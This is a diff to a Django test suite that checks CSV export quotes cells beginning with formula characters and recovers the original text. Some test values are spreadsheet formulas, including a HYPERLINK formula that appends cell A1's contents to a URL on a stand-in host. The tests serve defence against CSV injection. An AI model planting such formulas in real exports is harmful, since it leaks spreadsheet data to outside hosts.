@@ -39,6 +39,20 @@ def test_nested_objects_become_dotted_columns_and_lists_one_cell():
     assert tables.cell([]) == "" and tables.cell(True) == "true" and tables.cell(1.5) == "1.5"
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'"])
+def test_a_text_a_spreadsheet_would_run_as_a_formula_is_quoted_and_recovered(start):
+    value = f'{start}HYPERLINK("http://example.org","x")'
+    assert tables.cell(value) == "'" + value
+    assert tables.cell([value, "b"]) == f"'{value}; b"
+    assert tables.recovered(tables.cell(value)) == value
+
+
+def test_numbers_and_other_texts_are_left_as_they_are():
+    assert tables.cell(-44) == "-44" and tables.cell(-1.5) == "-1.5" and tables.cell(False) == "false"
+    assert tables.cell("Қазақстан = ел") == "Қазақстан = ел" and tables.cell(["a", "=b"]) == "a; =b"
+    assert tables.recovered("Қазақстан") == "Қазақстан"
+
+
 def test_columns_come_from_the_serializer_even_for_an_empty_list():
     assert tables.columns(PassageSerializer()) == [
         "id", "thesis", "section", "order", "status", "version", "changed_at", "span.start", "span.end", "text",
@@ -89,7 +103,19 @@ def test_each_list_as_csv_has_the_rows_the_filtered_json_list_has(client, seed_t
     first, record = rows[0], pages["results"][0]
     for name, value in record.items():
         if isinstance(value, str | int) and not isinstance(value, bool):
-            assert first[name] == str(value), name
+            assert tables.recovered(first[name]) == str(value), name
+
+
+@pytest.mark.django_db
+def test_a_text_starting_as_a_formula_is_quoted_in_the_csv_and_recovered_as_json_has_it(client, seed_thesis):
+    formula = '=HYPERLINK("http://example.org/?"&A1,"Қазақстан")'
+    passage = Passage.objects.order_by("pk").first()
+    passage.text = formula
+    editing.save_checked(passage, expected_version=passage.version, user=None, reason="Test")
+    json_text = client.get(f"/api/passages/{passage.pk}/").json()["text"]
+    rows = read_csv(client.get("/api/passages/", {"format": "csv", "thesis": seed_thesis.pk}))
+    cell = next(row["text"] for row in rows if row["id"] == str(passage.pk))
+    assert json_text == formula and cell == "'" + formula and tables.recovered(cell) == json_text
 
 
 @pytest.mark.django_db
